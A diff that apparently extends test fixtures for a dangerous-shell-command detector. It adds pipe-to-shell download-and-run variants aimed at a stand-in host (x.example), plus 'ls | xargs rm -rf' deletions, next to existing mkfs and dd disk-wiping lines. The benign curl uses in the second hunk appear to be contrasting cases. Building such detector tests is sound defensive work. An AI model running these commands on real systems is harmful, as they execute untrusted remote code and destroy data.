@@ -160,6 +160,13 @@ irm x | iex
 curl -o i.sh https://x.example/i.sh && bash i.sh
 curl -fsSLO https://x.example/i.sh; chmod +x i.sh; ./i.sh
 wget https://x.example/i.sh && sh i.sh
+curl -s https://x.example/i.sh > i.sh; bash ./i.sh
+curl x | gunzip > i.py && python i.py
+for u in a b; do curl $u; done | sh
+if true; then curl x; else wget -O- y; fi | bash
+get() { curl -s "$1"; }; get x | sh
+ls | xargs rm -rf
+ls -A | xargs -n1 rm -r
 mkfs.ext4 /dev/sdb1
 sudo mkfs -t ext4 /dev/sdb
 dd if=/dev/zero of=/dev/sda bs=1M
@@ -289,6 +296,10 @@ curl x | grep -q ok && bash setup.sh
 curl x | tee page.html
 curl x | tar xz
 curl -sSf x > page.html
+curl -s x > data.json && python read.py data.json
+for u in a b; do curl -sO $u; done
+if curl -sf x > /dev/null; then bash ci.sh; fi
+ls src | head
 wget -q x -O data.json
 VERSION=$(curl -s x); echo "$VERSION"
 python fetch.py "$(curl -s x)"
